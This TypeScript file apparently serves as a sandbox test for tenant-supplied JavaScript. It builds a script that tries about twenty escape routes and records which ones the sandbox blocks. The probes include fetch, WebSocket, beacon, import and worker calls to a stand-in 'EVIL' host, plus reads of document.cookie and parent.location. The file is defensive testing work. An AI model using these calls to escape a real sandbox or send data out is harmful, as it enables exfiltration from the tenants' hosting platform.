/** Ways out of the sandbox that a tenant's JavaScript might try; each throws, or answers what it got hold of. */
const probes: Readonly<Record<string, string>> = {
  fetch: 'await fetch(EVIL)',
  fetch_own_site: "await fetch(HOME + '/api/tenant')",
  fetch_no_cors: "await fetch(EVIL, { mode: 'no-cors' })",
  request:
    "await new Promise((ok, no) => { const x = new XMLHttpRequest(); x.open('GET', EVIL); x.onload = ok; x.onerror = no; x.send(); })",
  socket:
    "await new Promise((ok, no) => { const s = new WebSocket(EVIL.replace('http', 'ws')); s.onopen = ok; s.onerror = no; })",
  event_source: 'await new Promise((ok, no) => { const s = new EventSource(EVIL); s.onopen = ok; s.onerror = no; })',
  import_scripts: 'importScripts(EVIL)',
  import_module: 'await import(EVIL)',
  evaluate: "eval('1')",
  make_function: "new Function('return 1')()",
  nested_worker:
    "await new Promise((ok, no) => { const w = new Worker(URL.createObjectURL(new Blob(['fetch(\"' + EVIL + '\").then(() => postMessage(1), () => postMessage(0))']))); w.onmessage = (e) => (e.data ? ok() : no(new Error('blocked'))); w.onerror = no; })",
  storage: "localStorage.getItem('x')",
  session_storage: 'sessionStorage.length',
  database: "await new Promise((ok, no) => { const r = indexedDB.open('x'); r.onsuccess = ok; r.onerror = no; })",
  caches: "await caches.open('x')",
  document: 'document.cookie',
  parent: 'parent.location.href',
  open_window: 'open(EVIL)',
  peer: 'new RTCPeerConnection({ iceServers: [{ urls: "stun:" + EVIL }] })',
  beacon: 'navigator.sendBeacon(EVIL)',
};

export const probeNames = Object.keys(probes);

/** Custom JavaScript that tries all of them and notes for each whether it was stopped. */
export const probingScript = (home: string, evil: string): string => `
const HOME = ${JSON.stringify(home)}, EVIL = ${JSON.stringify(evil)};
const late = () => new Promise((_, no) => setTimeout(() => no(new Error('nothing came')), 1500));
const tryOut = async (name, probe) => {
  let escaped = true, why = '';
  try { await Promise.race([probe(), late()]); } catch (error) { escaped = false; why = String(error).slice(0, 150); }
  northlight.track('probe', { name, escaped, why });
};
const pause = (ms) => new Promise((ok) => setTimeout(ok, ms));
(async () => {
  ${Object.entries(probes)
    .map(([name, code]) => `await tryOut('${name}', async () => { ${code}; }); await pause(60);`)
    .join('\n  ')}
  northlight.track('probed', {});
})();
`;
